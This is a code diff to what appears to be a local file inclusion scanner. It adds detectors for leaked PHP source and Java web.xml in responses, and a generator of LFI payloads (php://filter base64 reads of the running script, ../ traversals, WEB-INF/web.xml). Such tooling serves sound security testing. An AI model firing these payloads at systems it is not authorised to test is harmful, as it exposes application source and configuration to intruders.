@@ -14,6 +14,28 @@ export const FILE_SIGNATURES: readonly FileSignature[] = [
   { file: 'C:\\Windows\\win.ini', pattern: /\[fonts\][\s\S]{0,400}?\[extensions\]|\[extensions\][\s\S]{0,400}?\[fonts\]/i },
 ];
 
+// The application's own files: a server-side source (an open tag and code, never sent to browsers
+// by a working server) and the Java deployment descriptor. Matched on the answer with the HTML
+// escapes of < and > undone, since viewers often show a file inside <pre>.
+export const SOURCE_SIGNATURES: readonly FileSignature[] = [
+  { file: 'server-side PHP source', pattern: /<\?php\b[\s\S]{0,2000}?(?:\$_(?:GET|POST|REQUEST|SERVER|COOKIE|FILES)\b|\b(?:echo|include|require|require_once|include_once|function|readfile|file_get_contents)\b)/ },
+  { file: 'WEB-INF/web.xml', pattern: /<web-app\b[\s\S]{0,4000}?<\/web-app>|<servlet-(?:class|mapping)>[\s\S]{0,400}?<\/servlet-(?:class|mapping)>/ },
+];
+
+function unescapeAngles(text: string): string {
+  return text.replace(/&lt;|&#0*60;|&#x0*3c;/gi, '<').replace(/&gt;|&#0*62;|&#x0*3e;/gi, '>').replace(/&quot;|&#0*34;/gi, '"');
+}
+
+/** A read of the application's own source or descriptor in `text`, or null. */
+export function findSourceSignature(text: string): SignatureMatch | null {
+  const plain = unescapeAngles(text);
+  for (const s of SOURCE_SIGNATURES) {
+    const m = s.pattern.exec(plain);
+    if (m) return { file: s.file, matched: m[0].slice(0, 200) };
+  }
+  return null;
+}
+
 export interface SignatureMatch {
   file: string;
   matched: string;
@@ -42,6 +64,34 @@ export interface LfiPayload {
   technique: string;
   /** The answer is base64 of the file (php://filter). */
   base64?: boolean;
+  /** Aims at the application's own source or descriptor (proven by SOURCE_SIGNATURES). */
+  own?: boolean;
+}
+
+/**
+ * Reads of the application itself, for when system files are out of reach (a filter naming
+ * /etc/passwd, a chroot, a Windows host): the running script through php://filter (base64, so PHP
+ * does not run it) and by ../ back from the folder it reads, and WEB-INF/web.xml for Java.
+ */
+export function ownSourcePayloads(requestUrl: string, original: string): LfiPayload[] {
+  let script = '';
+  try {
+    script = decodeURIComponent(new URL(requestUrl).pathname.split('/').pop() ?? '');
+  } catch {
+    // a malformed escape in the path: no script name to aim at
+    script = '';
+  }
+  const out: LfiPayload[] = [];
+  const php = /\.(?:php\d?|phtml|inc)$/i;
+  if (php.test(script) || php.test(original)) {
+    const target = php.test(script) ? script : original;
+    out.push({ value: `php://filter/convert.base64-encode/resource=${target}`, technique: `php://filter base64 of the application's own ${target}`, base64: true, own: true });
+    if (/^[\w-]+$/.test(original)) out.push({ value: `php://filter/convert.base64-encode/resource=${original}`, technique: `php://filter base64 of the included ${original}`, base64: true, own: true });
+    if (php.test(script)) for (const up of ['', '../', '../../']) out.push({ value: `${up}${script}`, technique: `${up === '' ? 'the script name' : `${up} back to the script`} ${script}`, own: true });
+  }
+  if (!php.test(script) && !/\.(?:aspx?|cgi|pl|py|rb)$/i.test(script))
+    for (const up of ['', '../', '../../']) out.push({ value: `${up}WEB-INF/web.xml`, technique: `${up === '' ? '' : `${up} then `}WEB-INF/web.xml (Java descriptor)`, own: true });
+  return out;
 }
 
 const UP = '../';
